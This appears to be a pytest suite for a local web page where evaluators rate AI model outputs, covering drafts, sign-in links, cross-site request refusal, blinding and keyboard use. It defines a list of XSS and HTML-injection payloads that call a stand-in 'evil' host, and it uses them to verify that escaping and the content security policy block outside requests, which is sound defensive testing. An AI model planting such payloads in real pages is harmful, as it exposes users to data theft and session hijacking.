"""The rating pages: keyboard, drafts, blindness, and nobody else's hands."""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
import uvicorn
from sqlalchemy import select

from monitors.context import Context
from monitors.review import desk
from monitors.review.batch import make_batch
from monitors.review.links import Person, secret_of, signed, verified
from monitors.review.rubric import DIMENSIONS
from monitors.web.standalone import COOKIE, check_host, create_app, link_for
from sql.errors import ConfigurationError
from sql.store import Store
from sql.tables import label, review_entry
from tests.browser import Browser, browser, chromium
from tests.conftest import unavailable
from tests.ear import listening
from tests.review_kit import MONTH, NOW, fill_month, rate_all, review_context

BATCH = "log-2026-05"
FULL = dict.fromkeys(DIMENSIONS, "4")
HOSTILE = (
    '<script>fetch("{evil}/a")</script>',
    '<img src="{evil}/b" onerror="fetch(\'{evil}/c\')">',
    "![x]({evil}/d)",
    '</pre><meta http-equiv="refresh" content="0;url={evil}/e">',
    '<svg/onload=fetch("{evil}/f")><link rel=stylesheet href="{evil}/g">',
    '"><iframe src="{evil}/h"></iframe><base href="{evil}/i">',
    "javascript:fetch('{evil}/j') {{{{7*7}}}} ${{7*7}}",
    '<style>@import "{evil}/k"; body{{background:url({evil}/l)}}</style>',
    '</textarea><video src="{evil}/m"></video><object data="{evil}/n"></object>',
    '</form><form method="post" action="{evil}/o"><input autofocus onfocus="form.submit()"></form>',
    '<link rel="preconnect" href="{evil}"><link rel="prefetch" href="{evil}/p"><input type=image '
    'src="{evil}/q">',
    "<img src=x onerror=\"navigator.sendBeacon('{evil}/r'); fetch('{evil}', {{method: 'PUT'}})\">",
    '<script>new WebSocket("ws://127.0.0.1:{port}/s"); new EventSource("{evil}/t")</script>',
    '[a]: {evil}/u "x"\n![b][a] <{evil}/v> {evil}/w?d=\u202e\u200bsecret',
)


@dataclass
class Served:
    """A running server."""

    url: str
    context: Context

    def client(self, name: str, **changes: Any) -> httpx.Client:
        token = signed(Person(name), NOW + timedelta(days=1), secret_of(self.context))
        return httpx.Client(base_url=self.url, cookies={COOKIE: token}, timeout=20, **changes)


def batch_of(
    store: Store, folder: Path, texts: list[tuple[str, str]] | None = None, **changes: Any
) -> Context:
    context = review_context(store, folder, **changes)
    judge = [0.1 + 0.8 * (n % 10) / 10 for n in range(120)]
    fill_month(context, judge, judge, texts=texts)
    make_batch(MONTH, context)
    return context


def serving(context: Context) -> Iterator[Served]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = uvicorn.Config(create_app(lambda: context), port=port, log_level="error")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    yield Served(f"http://127.0.0.1:{port}", context)
    server.should_exit = True
    thread.join(10)


@pytest.fixture
def served(store: Store, tmp_path: Path) -> Iterator[Served]:
    yield from serving(batch_of(store, tmp_path))


def token_in(page: str) -> str:
    found = re.search(r'name="token" value="(\w+)"', page)
    assert found
    return found[1]


def rate(
    client: httpx.Client, number: int, action: str = "submit", **fields: str
) -> httpx.Response:
    path = f"/rate/{BATCH}/{number}"
    form = {"token": token_in(client.get(path).text), "action": action, **fields}
    return client.post(path, data=form, headers={"Accept": "application/json"})


# ── what is kept ─────────────────────────────────────────────────────────────────────────────


def test_drafts_are_kept_and_only_a_submit_is_a_rating(served: Served) -> None:
    with served.client("eva") as client:
        said = rate(client, 1, "draft", accuracy="2", comment="half")
        assert said.json()["state"] == "draft"
        assert served.context.store.rows(select(label)) == []
        page = client.get(f"/rate/{BATCH}/1").text
        assert 'name="accuracy" value="2" checked' in page
        assert "half" in page
        assert rate(client, 1, "submit", accuracy="2").status_code == 422  # four are missing
        assert rate(client, 1, **(FULL | {"safety": "0"})).json()["next"] == "2"
    rows = served.context.store.rows(select(label))
    assert {row.dimension: row.value for row in rows} == {
        **dict.fromkeys(DIMENSIONS, 4.0),
        "safety": None,
    }


def test_the_same_save_again_changes_nothing_and_a_late_draft_undoes_no_submit(
    served: Served,
) -> None:
    with served.client("eva") as client:
        first = rate(client, 1, **FULL, revision="0").json()
        assert rate(client, 1, **FULL, revision="0").json()["revision"] == first["revision"]
        late = rate(client, 1, "draft", accuracy="1", revision="0").json()
        assert (late["state"], late["notice"]) == ("done", "already submitted")
    assert {row.revision for row in served.context.store.rows(select(label))} == {1}


def test_of_two_tabs_the_later_stands_with_a_notice(served: Served) -> None:
    with served.client("eva") as client:
        rate(client, 1, "draft", accuracy="1", revision="0")
        said = rate(client, 1, "draft", accuracy="5", revision="0").json()
        assert "another tab" in said["notice"]
    (entry,) = served.context.store.rows(select(review_entry))
    assert entry.scores == {"accuracy": 5.0}


def test_a_person_comes_back_to_the_first_unfinished(served: Served) -> None:
    with served.client("eva") as client:
        rate(client, 1, **FULL)
        rate(client, 2, "skip", reason="unreadable")
        assert rate(client, 3, "skip").status_code == 422
        answer = client.get(f"/rate/{BATCH}", follow_redirects=False)
        assert answer.headers["location"].endswith("/3")


def test_it_works_as_a_plain_form(served: Served) -> None:
    with served.client("eva") as client:
        path = f"/rate/{BATCH}/1"
        form = {"token": token_in(client.get(path).text), "action": "submit", **FULL}
        answer = client.post(path, data=form)
        assert (answer.status_code, answer.headers["location"]) == (303, "2")
        assert client.get("/rate/" + BATCH, follow_redirects=True).status_code == 200


# ── who may ──────────────────────────────────────────────────────────────────────────────────


def test_strangers_and_broken_links_are_refused(served: Served) -> None:
    app = create_app(lambda: served.context)
    paths = {route.path for route in app.routes if hasattr(route, "methods")}
    assert len(paths) >= 6
    for path in paths - {"/favicon.ico"}:  # empty for everybody
        if path == "/enter":
            path = "/enter?token=eva.forged"
        filled = path.replace("{batch}", BATCH).replace("{number}", "1")
        for method in ("GET", "POST"):
            answer = httpx.request(method, served.url + filled)
            assert answer.status_code in (401, 405), f"{method} {path} answers a stranger"
    late = signed(Person("eva"), NOW - timedelta(seconds=1), secret_of(served.context))
    assert httpx.get(f"{served.url}/enter?token={late}").status_code == 401
    assert verified("", NOW, b"s") is None


def test_a_personal_link_lets_in(served: Served) -> None:
    link = link_for(Person("eva"), served.url, served.context, days=2)
    with httpx.Client(base_url=served.url) as client:
        answer = client.get(link)
        assert "SameSite=strict" in answer.headers["set-cookie"]
        assert "HttpOnly" in answer.headers["set-cookie"]
        assert BATCH in client.get("/rate").text


@pytest.mark.parametrize(
    ("headers", "token", "status"),
    [
        ({"Origin": "https://evil.example"}, True, 403),
        ({"Origin": "null"}, True, 403),
        ({"Sec-Fetch-Site": "cross-site"}, True, 403),
        ({"Sec-Fetch-Site": "same-site"}, True, 403),
        ({}, False, 403),
        ({"Content-Type": "text/plain"}, True, 415),
        ({"Host": "rebound.example"}, True, 400),
    ],
)
def test_foreign_posts_are_refused(
    served: Served, headers: dict[str, str], token: bool, status: int
) -> None:
    with served.client("eva") as client:
        path = f"/rate/{BATCH}/1"
        known = token_in(client.get(path).text) if token else "0" * 64
        form = {"token": known, "action": "submit", **FULL}
        assert client.post(path, data=form, headers=headers).status_code == status
    assert served.context.store.rows(select(review_entry)) == []


def test_only_loopback_without_a_proxy() -> None:
    with pytest.raises(ConfigurationError):
        check_host("0.0.0.0", behind_proxy=False)
    check_host("0.0.0.0", behind_proxy=True)


# ── what is seen ─────────────────────────────────────────────────────────────────────────────


def test_pages_are_blind_small_and_reach_nowhere(served: Served) -> None:
    with served.client("finn") as other:
        for number in range(1, 10):
            rate(other, number, **FULL, comment="finn was here")
    with served.client("eva") as client:
        count = len(desk.queue(BATCH, "eva", served.context))
        seen = [client.get(f"/rate/{BATCH}/{number}") for number in range(1, count + 1)]
        saved = rate(client, 1, **FULL)
        assets = [client.get(f"/{name}") for name in ("rating.css", "rating.js")]
        assert client.get(f"/rate/{BATCH}/{count + 1}").status_code == 404
    pages = [*(answer.text for answer in seen), saved.text]
    for secret in ("secret-model", "finn", "feature=", "targeted", "r000", "0.123"):
        assert not any(secret in page for page in pages), secret
    policy = seen[0].headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert len(seen[0].content) + sum(len(asset.content) for asset in assets) < 100_000
    assert not re.search(r"<script>|\son\w+=|\sstyle=|(?:src|href)=\"(?:/|[a-z]+:)", seen[0].text)


def test_everybody_reads_in_another_order(served: Served) -> None:
    queues = {
        name: [place.item_id for place in desk.queue(BATCH, name, served.context)]
        for name in served.context.settings.review.evaluators
    }
    assert all(queue != sorted(queue) for queue in queues.values())
    shared = set(queues["eva"]) & set(queues["finn"])
    assert len(shared) > 2
    orders = {tuple(i for i in queues[name] if i in shared) for name in ("eva", "finn")}
    assert len(orders) == 2


def test_a_sitting_ends_with_a_pause(store: Store, tmp_path: Path) -> None:
    past = [(NOW - timedelta(minutes=5 * n), 290.0) for n in range(30)]
    assert desk.sitting(past, NOW) >= desk.HARD_STOP_S
    assert desk.sitting(past, NOW + timedelta(minutes=36)) == 0
    context = batch_of(store, tmp_path)
    for place in desk.queue(BATCH, "eva", context)[:13]:
        entry = desk.Entry(scores={"accuracy": 3.0}, seconds=590.0)
        desk.save(BATCH, place.item_id, "eva", entry, "draft", context)
    for served in serving(context):
        with served.client("eva") as client:
            assert "Time for a pause" in client.get(f"/rate/{BATCH}/14").text
            assert "Time for a pause" not in client.get(f"/rate/{BATCH}/1").text


# ── in a browser ─────────────────────────────────────────────────────────────────────────────


def _speak(tab: Browser, ear: str, port: int) -> None:
    """Say something to the ear in every way that a page has."""
    for script in (
        f"fetch('{ear}/get', {{mode: 'no-cors'}}).catch(() => 0)",
        f"fetch('{ear}/post', {{mode: 'no-cors', method: 'POST'}}).catch(() => 0)",
        f"fetch('{ear}/head', {{mode: 'no-cors', method: 'HEAD'}}).catch(() => 0)",
        f"fetch('{ear}/put', {{method: 'PUT'}}).catch(() => 0)",
        f"navigator.sendBeacon('{ear}/beacon', 'x')",
        f"new Promise(done => {{ const s = new WebSocket('ws://127.0.0.1:{port}/socket');"
        " s.onerror = s.onclose = () => done(0); })",
    ):
        tab.run(script)


@pytest.mark.parametrize("policy", [True, False])
def test_hostile_texts_reach_nobody(tmp_path: Path, policy: bool) -> None:
    """With the policy and, as if it were lost, without: escaping must do by itself."""
    if chromium() is None:
        unavailable("Chromium", "it is not installed")
    store = Store.open(f"sqlite:///{tmp_path}/store.db")
    with listening() as ear:
        hostile = [text.format(evil=ear.url, port=ear.port) for text in HOSTILE]
        texts = [(hostile[n % len(hostile)], hostile[(n + 1) % len(hostile)]) for n in range(120)]
        context = batch_of(store, tmp_path, texts=texts, evaluators=["eva", "finn"])
        for served in serving(context):
            with browser() as tab, served.client("eva") as client:
                tab.cookie(COOKIE, client.cookies[COOKIE], served.url)
                if not policy:
                    tab.send("Page.setBypassCSP", enabled=True)
                _read_all(tab, served, len(hostile))
                _read_disputes(tab, served, len(hostile))
                foreign = [url for url in tab.requests if not url.startswith(served.url)]
                assert (ear.heard, foreign) == ([], [])
                _speak(tab, ear.url, ear.port)
        methods = {line.split()[0] for line in ear.heard}
        # The ear works, where the policy does not shut the mouth.
        assert methods == (set() if policy else {"GET", "POST", "HEAD", "OPTIONS"})
        assert policy or any("/socket" in line for line in ear.heard)
    store.close()


def _read_all(tab: Browser, served: Served, kinds: int) -> None:
    """Each hostile text as a question and as an answer, marked and raw."""
    seen = set()
    for place in desk.queue(BATCH, "eva", served.context):
        kind = int(place.item_id.removeprefix("r")) % kinds
        if kind in seen:
            continue
        seen.add(kind)
        for raw in ("", "?raw=true"):
            tab.open(f"{served.url}/rate/{BATCH}/{place.number}{raw}", 0.1)
            assert tab.run("document.querySelectorAll('pre *').length") == 0
            assert len(tab.run("document.querySelector('#answer').textContent")) > 10
    assert len(seen) == kinds


def _read_disputes(tab: Browser, served: Served, kinds: int) -> None:
    """The administrator's page, on which the same texts stand."""
    context = served.context
    truth = {f"r{number:05d}": float(number % 2) for number in range(120)}
    rate_all(context, BATCH, truth, noise=0.5)
    token = signed(Person("ada", admin=True), NOW + timedelta(days=1), secret_of(context))
    tab.cookie(COOKIE, token, served.url)
    tab.open(f"{served.url}/batch/{BATCH}/disputes", 0.3)
    assert tab.run("document.querySelectorAll('pre').length") >= kinds
    assert tab.run("document.querySelectorAll('pre *').length") == 0


def test_six_keys_an_item_in_a_real_browser(tmp_path: Path) -> None:
    if chromium() is None:
        unavailable("Chromium", "it is not installed")
    store = Store.open(f"sqlite:///{tmp_path}/store.db")
    for served in serving(batch_of(store, tmp_path)):
        with browser() as tab, served.client("eva") as client:
            tab.cookie(COOKIE, client.cookies[COOKIE], served.url)
            tab.open(f"{served.url}/rate/{BATCH}")
            for number in (1, 2, 3):
                assert tab.run("location.pathname").endswith(f"/{number}")
                for key in "54321":
                    tab.key(key)
                tab.key("Enter")
                _until(tab, f"location.pathname.endsWith('/{number + 1}')")
            tab.key("2")
            _until(tab, "document.querySelector('#saved').textContent == 'kept'")
            tab.key("c")
            for key in "s1 u":
                tab.key(key)
            assert tab.run("document.querySelector('#comment').value") == "s1 u"
            tab.key("Escape")
            _until(tab, "document.querySelector('#saved').textContent == 'kept'")
            tab.key("ArrowLeft")
            _until(tab, "location.pathname.endsWith('/3')")
            assert tab.faults == []
    rows = store.rows(select(label).where(label.c.evaluator == "eva"))
    assert len({row.item_id for row in rows}) == 3
    assert {row.dimension: row.value for row in rows} == dict(
        zip(DIMENSIONS, (5.0, 4.0, 3.0, 2.0, 1.0), strict=True)
    )
    (entry,) = store.rows(select(review_entry).where(review_entry.c.state == "draft"))
    assert (entry.scores, entry.comment) == ({"accuracy": 2.0}, "s1 u")
    store.close()


def _until(tab: Any, condition: str) -> None:
    deadline = time.monotonic() + 10
    while not tab.run(condition):
        assert time.monotonic() < deadline, f"never: {condition}, {json.dumps(tab.faults)}"
        time.sleep(0.05)
    while tab.run("document.readyState") != "complete":
        time.sleep(0.02)
    assert urlsplit(tab.run("location.href")).hostname == "127.0.0.1"
